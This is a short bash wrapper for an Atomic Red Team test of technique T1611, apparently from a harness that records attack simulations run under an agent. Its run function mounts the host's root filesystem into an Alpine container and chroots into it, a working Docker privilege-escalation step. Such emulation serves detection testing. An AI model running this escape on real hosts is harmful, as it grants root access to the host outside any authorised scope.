#!/usr/bin/env bash
# Atomic Red Team T1611-3: Privilege Escalation via Docker Volume Mapping
# atomic GUID 39fab1bc-fcb9-406f-bc2e-fe03e42ff0e4; technique T1611
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    sh -c "docker run -v /:/mnt --rm --name t1611_privesc alpine chroot /mnt id" 2>/dev/null
}
cleanup() {
    :
}
"$1"
